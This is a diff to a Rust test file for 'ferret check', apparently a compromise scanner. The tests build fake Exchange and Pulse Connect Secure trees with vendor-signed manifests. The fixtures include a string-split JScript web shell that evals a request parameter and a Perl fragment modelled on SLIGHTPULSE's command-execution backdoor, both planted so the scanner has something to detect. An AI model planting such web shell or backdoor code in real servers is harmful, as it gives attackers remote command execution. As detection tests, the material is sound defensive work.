@@ -1,7 +1,10 @@
 //! `ferret check` end to end: verdicts and exit statuses over a fake Exchange tree, in text,
-//! JSONL and CSV; a named campaign with no inputs; a bad campaign name.
+//! JSONL and CSV; a named campaign with no inputs; a bad campaign name; a genuine-shaped Pulse
+//! Connect Secure appliance (vendor key and signature made at test time with `openssl`) with
+//! and without SLIGHTPULSE's published code in `meeting_testjs.cgi`.
 
-use std::path::Path;
+use std::path::{Path, PathBuf};
+use std::process::Command as Process;
 
 use assert_cmd::Command;
 use ferret_testkit::Tree;
@@ -102,4 +105,166 @@ fn unknown_campaign_is_a_usage_error() {
     let t = clean_host();
     let (code, _) = ferret(&["--campaign", "nimda"], t.root());
     assert_eq!(code, 2);
+}
+
+#[test]
+fn check_report_carries_the_intel_sha256() {
+    let t = clean_host();
+    let (_, a) = ferret(&["--format", "jsonl"], t.root());
+    let sha = summary(&a)["tool"]["ruleset_sha256"].as_str().expect("ruleset_sha256").to_owned();
+    assert_eq!(sha.len(), 64, "{sha}");
+    let (_, b) = ferret(&["--format", "jsonl"], t.root());
+    assert_eq!(summary(&b)["tool"]["ruleset_sha256"], sha.as_str());
+}
+
+/// Severity follows the score on every finding of a check report.
+#[test]
+fn check_findings_severity_follows_score() {
+    let t = clean_host();
+    let shell = concat!(
+        "<script language=\"JScript\" ",
+        "runat=\"server\">function Page_Load(){",
+        "ev",
+        "al(Request[\"k\"],\"unsafe\");}</script>"
+    );
+    t.file(format!("{V15}/FrontEnd/HttpProxy/owa/auth/errorPages.aspx"), shell);
+    t.file("inetpub/wwwroot/aspnet_client/other.aspx", "<%@ Page %>custom page");
+    let (_, out) = ferret(&["--format", "jsonl"], t.root());
+    let mut n = 0;
+    for v in out.lines().map(|l| serde_json::from_str::<Value>(l).unwrap()) {
+        if v["type"] != "finding" {
+            continue;
+        }
+        n += 1;
+        let score = v["score"].as_u64().unwrap();
+        let want = match score {
+            90.. => "critical",
+            75..=89 => "high",
+            60..=74 => "medium",
+            40..=59 => "low",
+            _ => "info",
+        };
+        assert_eq!(v["severity"], want, "{v}");
+    }
+    assert!(n >= 2, "{out}");
+}
+
+/// Runs `openssl` with `args`; `None` (with a visible skip, a failure under
+/// `FERRET_STRICT_TESTS=1`) when it is not installed.
+#[expect(clippy::print_stderr, reason = "a skipped test says why")]
+fn openssl(args: &[&std::ffi::OsStr]) -> Option<()> {
+    match Process::new("openssl").args(args).output() {
+        Ok(o) => {
+            assert!(o.status.success(), "openssl {args:?}: {}", String::from_utf8_lossy(&o.stderr));
+            Some(())
+        }
+        Err(e) => {
+            assert!(
+                std::env::var_os("FERRET_STRICT_TESTS").is_none(),
+                "openssl is needed for this test: {e}"
+            );
+            eprintln!("SKIPPED: openssl is not installed ({e})");
+            None
+        }
+    }
+}
+
+/// Genuine appliance pages that published families modify (paths as on the appliance).
+fn genuine_pages() -> Vec<(&'static str, String)> {
+    let page = |what: &str| {
+        format!(
+            "#!/usr/bin/perl\nuse strict;\nuse CGI;\nmy $id = CGI::param('id');\nprint \"Content-type: text/html\\n\\n\";\nprint \"<html><body>{what}</body></html>\\n\";\n"
+        )
+    };
+    vec![
+        (
+            "/home/webserver/htdocs/dana-na/meeting/meeting_testjs.cgi",
+            "#!/usr/bin/perl\nuse CGI;\nprint \"Content-type: text/javascript\\n\\n\";\nprint \"var meetingTest = 1;\\n\";\n".to_owned(),
+        ),
+        ("/home/webserver/htdocs/dana-na/auth/url_default/welcome.cgi", page("welcome")),
+        ("/home/webserver/htdocs/dana-na/auth/compcheckresult.cgi", page("compliance")),
+        ("/home/webserver/htdocs/dana-na/auth/url_default/secid_canceltoken.cgi", page("token")),
+        ("/home/webserver/htdocs/dana-na/auth/compcheckjava.cgi", page("java check")),
+        ("/home/webserver/htdocs/dana-na/licenseserver/licenseserverproto.cgi", page("license")),
+        ("/home/perl/DSUpgrade.pm", "package DSUpgrade;\nuse strict;\nsub run { return 0; }\n1;\n".to_owned()),
+        ("/home/bin/dsserver", "\u{7f}ELF test dsserver".to_owned()),
+    ]
+}
+
+/// Builds the appliance under `t` (`pcs/`), its manifest signed with a vendor key made here;
+/// returns the vendor public key's path, or `None` when openssl is missing.
+fn appliance(t: &Tree, pages: &[(&str, String)]) -> Option<PathBuf> {
+    use sha2::Digest as _;
+    let keys = t.root().join("vendor-keys");
+    std::fs::create_dir_all(&keys).unwrap();
+    let key = keys.join("vendor.key.pem");
+    let public = keys.join("vendor.pub.pem");
+    openssl(&["genrsa".as_ref(), "-out".as_ref(), key.as_os_str(), "2048".as_ref()])?;
+    openssl(&[
+        "rsa".as_ref(),
+        "-in".as_ref(),
+        key.as_os_str(),
+        "-pubout".as_ref(),
+        "-out".as_ref(),
+        public.as_os_str(),
+    ])?;
+    let mut manifest = String::new();
+    for (p, c) in pages {
+        t.file(format!("pcs{p}"), c);
+        manifest.push_str(&format!("{p} {}\n", hex::encode(sha2::Sha256::digest(c.as_bytes()))));
+    }
+    let m = t.file("pcs/home/etc/manifest/manifest", &manifest);
+    let sig = t.root().join("pcs/home/etc/manifest/manifest.1");
+    openssl(&[
+        "dgst".as_ref(),
+        "-sha512".as_ref(),
+        "-sign".as_ref(),
+        key.as_os_str(),
+        "-out".as_ref(),
+        sig.as_os_str(),
+        m.as_os_str(),
+    ])?;
+    t.file("pcs/home/etc/manifest/manifest.2", std::fs::read(&public).unwrap());
+    Some(public)
+}
+
+/// Every page whose name the families reuse, genuine and vendor-signed: NOT FOUND, exit 0.
+#[test]
+fn genuine_pulse_appliance_is_not_found_and_exits_zero() {
+    let t = Tree::new();
+    let Some(public) = appliance(&t, &genuine_pages()) else { return };
+    let key = public.to_string_lossy().into_owned();
+    let (code, out) = ferret(&["--vendor-key", &key, "--format", "jsonl"], &t.root().join("pcs"));
+    assert_eq!(code, 0, "{out}");
+    assert!(!out.lines().any(|l| l.contains("\"type\":\"finding\"")), "{out}");
+    let s = summary(&out);
+    assert_eq!(s["details"]["verdicts"][0]["campaign"], "pulse-secure", "{s}");
+    assert_eq!(s["details"]["verdicts"][0]["verdict"], "not_found", "{s}");
+}
+
+/// The same appliance with SLIGHTPULSE's published code in `meeting_testjs.cgi` (the manifest
+/// re-hashed and vendor-signed, as with a leaked key): AFFECTED, exit 1.
+#[test]
+fn slightpulse_in_meeting_testjs_is_affected_and_exits_one() {
+    let t = Tree::new();
+    let mut pages = genuine_pages();
+    pages[0].1.push_str(
+        &[
+            "if (CGI::pa",
+            "ram('img')) { show(); } elsif (1) {\n",
+            "  sys",
+            "tem(\"$cmd > /tmp/7 2>",
+            "&1\");\n",
+            "  open(*F, \"< $out\");\n  while (<F>) { print; }\n",
+            "  print \"Content-type: ima",
+            "ge/gif\\n\\n\";\n}\n",
+        ]
+        .concat(),
+    );
+    let Some(public) = appliance(&t, &pages) else { return };
+    let key = public.to_string_lossy().into_owned();
+    let (code, out) = ferret(&["--vendor-key", &key], &t.root().join("pcs"));
+    assert_eq!(code, 1, "{out}");
+    assert!(out.contains("pulse-secure") && out.contains("AFFECTED"), "{out}");
+    assert!(out.contains("PS004") && out.contains("SLIGHTPULSE"), "{out}");
 }
